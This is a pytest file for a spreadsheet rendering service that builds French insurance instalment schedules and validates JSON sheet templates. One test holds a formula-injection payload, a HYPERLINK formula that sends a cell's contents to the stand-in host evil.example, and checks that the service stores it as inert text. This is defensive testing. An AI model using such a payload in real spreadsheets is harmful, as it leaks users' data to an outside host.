"""XLSX from a sheet description, read back with openpyxl."""

from __future__ import annotations

import datetime as dt
import io
import itertools
import json
import tempfile
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.services.rendering import (
    RenderError,
    RenderTimeout,
    TemplateSyntaxProblem,
    check_template,
    render,
    sample_context,
)

SCHEDULE = {
    "sheets": [
        {
            "title": "Échéancier",
            "header": [
                ["Contrat", "policy.number"],
                ["Client", "client.display_name"],
                ["Prime", "policy.premium", "money"],
                ["Effet", "policy.effective_date", "date"],
            ],
            "rows": "instalments",
            "columns": [
                {"title": "N°", "value": "row.number", "format": "integer", "total": "count"},
                {"title": "Échéance", "value": "row.due_date", "format": "date", "width": 14},
                {"title": "Montant", "value": "row.amount", "format": "money", "total": "sum"},
                {
                    "title": "Libellé",
                    "value": "'Échéance ' ~ row.number ~ ' — ' ~ client.last_name",
                },
            ],
        }
    ]
}


@pytest.fixture
def context() -> dict:
    return sample_context(None, today=dt.date(2026, 3, 15))


def read(data: bytes):
    return load_workbook(io.BytesIO(data))


def rows_of(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


def test_schedule_has_header_rows_totals_and_the_orias_line(context: dict) -> None:
    result = render(json.dumps(SCHEDULE), "xlsx", context)
    assert result.extension == "xlsx" and result.engine == "xlsxwriter"
    assert result.media_type.endswith("spreadsheetml.sheet")
    book = read(result.data)
    assert book.sheetnames == ["Échéancier"]
    sheet = book["Échéancier"]
    rows = rows_of(sheet)
    assert rows[0] == ("Contrat", context["policy"]["number"], None, None)
    assert rows[1][:2] == ("Client", "Camille Dupont")
    assert rows[2][1] == pytest.approx(684.36)
    assert sheet["B3"].number_format.endswith('"€"')
    assert rows[3][1] == dt.datetime(2026, 3, 1)
    assert rows[5] == ("N°", "Échéance", "Montant", "Libellé")
    data_rows = rows[6:10]
    assert [row[1] for row in data_rows] == [
        dt.datetime(2026, 3, 1),
        dt.datetime(2026, 6, 1),
        dt.datetime(2026, 9, 1),
        dt.datetime(2026, 12, 1),
    ]
    assert sum(Decimal(str(row[2])) for row in data_rows) == Decimal("684.36")
    assert data_rows[0][3] == "Échéance 1 — Dupont"
    assert sheet["B7"].is_date and sheet["B7"].number_format == "dd/mm/yyyy"
    assert sheet["C7"].data_type == "n"
    # Totals: a value (never a formula), a count for the first column.
    assert rows[10][0] == 4 and rows[10][2] == pytest.approx(684.36)
    assert sheet["C11"].font.b
    assert rows[-1][0] == "Intermédiaire immatriculé à l'ORIAS sous le n° 12345678 — www.orias.fr"
    with zipfile.ZipFile(io.BytesIO(result.data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_english_workbook_puts_the_symbol_first_and_translates_the_orias_line(
    context: dict,
) -> None:
    book = read(render(json.dumps(SCHEDULE), "xlsx", context, locale="en").data)
    sheet = book.active
    assert sheet["C7"].number_format.startswith('"€"')
    assert rows_of(sheet)[-1][0].startswith("Intermediary registered with ORIAS under no.")


def test_formula_looking_text_stays_text(context: dict) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    context["client"]["display_name"] = hostile
    context["instalments"][0]["note"] = "+1+1"
    description = {
        "sheets": [
            {
                "title": "Clients",
                "header": [["Client", "client.display_name"]],
                "rows": "instalments",
                "columns": [
                    {"title": "Client", "value": "client.display_name"},
                    {"title": "Note", "value": "row.note|default('@SUM(A1:A2)')"},
                ],
            }
        ]
    }
    result = render(json.dumps(description), "xlsx", context)
    sheet = read(result.data).active
    assert sheet["B1"].value == hostile and sheet["B1"].data_type == "s"
    assert sheet["A4"].value == hostile and sheet["A4"].data_type == "s"
    assert sheet["B4"].value == "+1+1" and sheet["B5"].value == "@SUM(A1:A2)"
    with zipfile.ZipFile(io.BytesIO(result.data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_control_characters_are_dropped_not_fatal(context: dict) -> None:
    context["client"]["display_name"] = "Camille\x00\x07 Dupont"
    description = {"sheets": [{"title": "A", "header": [["Client", "client.display_name"]]}]}
    sheet = read(render(json.dumps(description), "xlsx", context).data).active
    assert sheet["B1"].value == "Camille Dupont"


def test_streamed_rows_from_a_generator(context: dict) -> None:
    """A report streams its rows: 20,000 here (the benchmark does 100,000)."""
    consumed = []

    def lines():
        for index in range(20_000):
            consumed.append(index)
            yield {
                "ref": f"POL-{index:05d}",
                "premium": Decimal("10.01"),
                "start": dt.date(2026, 1, 1),
            }

    context["lines"] = lines()
    description = {
        "sheets": [
            {
                "title": "Portefeuille",
                "rows": "lines",
                "columns": [
                    {"title": "Contrat", "value": "row.ref", "total": "count"},
                    {"title": "Prime", "value": "row.premium", "format": "money", "total": "sum"},
                    {"title": "Effet", "value": "row.start", "format": "date"},
                ],
            }
        ]
    }
    result = render(json.dumps(description), "xlsx", context, timeout=60)
    assert len(consumed) == 20_000
    book = load_workbook(io.BytesIO(result.data), read_only=True)
    rows = list(book.active.iter_rows(values_only=True))
    book.close()
    assert rows[0] == ("Contrat", "Prime", "Effet")
    assert rows[1] == ("POL-00000", 10.01, dt.datetime(2026, 1, 1))
    assert rows[20_001][0] == 20_000
    assert Decimal(str(rows[20_001][1])) == Decimal("200200.00")
    assert "ORIAS" in rows[-1][0]


def test_each_streamed_row_is_checked_for_plain_data(context: dict) -> None:
    class Secret:
        pass

    context["lines"] = iter([{"a": 1}, {"a": Secret()}])
    description = {"sheets": [{"title": "A", "rows": "lines", "columns": [{"value": "row.a"}]}]}
    with pytest.raises(RenderError, match=r"lines\[1\]\.a"):
        render(json.dumps(description), "xlsx", context)


@pytest.fixture
def scratch(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


def test_endless_rows_stop_at_the_time_limit(context: dict, scratch) -> None:
    context["lines"] = ({"n": n} for n in itertools.count())
    description = {"sheets": [{"title": "A", "rows": "lines", "columns": [{"value": "row.n"}]}]}
    with pytest.raises(RenderTimeout):
        render(json.dumps(description), "xlsx", context, timeout=0.5)
    # The sheet streamed into a temporary file: it is gone with the failed render.
    assert list(scratch.iterdir()) == []


def test_sandbox_applies_to_expressions(context: dict) -> None:
    description = {
        "sheets": [{"title": "A", "rows": "instalments", "columns": [{"value": "row.__class__"}]}]
    }
    with pytest.raises(RenderError, match="__class__"):
        render(json.dumps(description), "xlsx", context)


def test_runtime_error_names_the_column(context: dict, scratch) -> None:
    description = {
        "sheets": [
            {
                "title": "A",
                "rows": "instalments",
                "columns": [
                    {"title": "Échéance", "value": "row.due_date", "format": "date"},
                    {"title": "Montant", "value": "row.amout"},
                ],
            }
        ]
    }
    with pytest.raises(RenderError, match="column 2 'Montant'.*'amout'"):
        render(json.dumps(description), "xlsx", context)
    assert list(scratch.iterdir()) == []


def test_rows_that_are_not_a_list_are_refused(context: dict) -> None:
    description = {"sheets": [{"title": "A", "rows": "client", "columns": [{"value": "row"}]}]}
    with pytest.raises(RenderError, match="rows: expected a list"):
        render(json.dumps(description), "xlsx", context)


# --- check_template ----------------------------------------------------------------


def test_invalid_json_gives_line_and_column() -> None:
    body = '{\n  "sheets": [\n    {"title": "A",}\n  ]\n}'
    with pytest.raises(TemplateSyntaxProblem) as caught:
        check_template(body, "xlsx")
    assert caught.value.line == 3
    assert "Invalid JSON" in caught.value.message and "column" in caught.value.message


def test_expression_syntax_error_names_the_column_and_its_line() -> None:
    body = json.dumps(
        {
            "sheets": [
                {
                    "title": "Échéancier",
                    "rows": "instalments",
                    "columns": [
                        {"title": "Échéance", "value": "row.due_date"},
                        {"title": "Montant", "value": "row.amount +"},
                    ],
                }
            ]
        },
        indent=2,
        ensure_ascii=False,
    )
    with pytest.raises(TemplateSyntaxProblem) as caught:
        check_template(body, "xlsx")
    assert "column 2 'Montant'" in caught.value.message
    assert caught.value.line == body.splitlines().index('          "value": "row.amount +"') + 1


@pytest.mark.parametrize(
    ("description", "message"),
    [
        ({}, '"sheets" list'),
        ({"sheets": []}, "between 1 and"),
        ({"sheets": [{"title": "A/B"}]}, "31 characters"),
        ({"sheets": [{"title": "A"}, {"title": "a"}]}, "two sheets"),
        ({"sheets": [{"title": "A", "colums": []}]}, "unknown key"),
        (
            {"sheets": [{"title": "A", "rows": "x", "columns": [{"value": "1", "format": "eur"}]}]},
            "format",
        ),
        (
            {"sheets": [{"title": "A", "rows": "x", "columns": [{"value": "1", "total": "avg"}]}]},
            "total",
        ),
        ({"sheets": [{"title": "A", "rows": "x", "columns": [{"title": "t"}]}]}, "value"),
        ({"sheets": [{"title": "A", "columns": [{"value": "1"}]}]}, '"rows"'),
        ({"sheets": [{"title": "A", "header": [["x"]]}]}, "header entry 1"),
        ({"sheets": [{"title": "A", "header": [["x", "a b"]]}]}, "header 'x'"),
        ({"sheets": [{"title": "A", "rows": "{% for %}", "columns": [{"value": "1"}]}]}, "rows"),
    ],
)
def test_invalid_descriptions_are_explained(description: dict, message: str) -> None:
    with pytest.raises(TemplateSyntaxProblem, match=message):
        check_template(json.dumps(description), "xlsx")


def test_valid_description_passes_the_check() -> None:
    check_template(json.dumps(SCHEDULE), "xlsx")
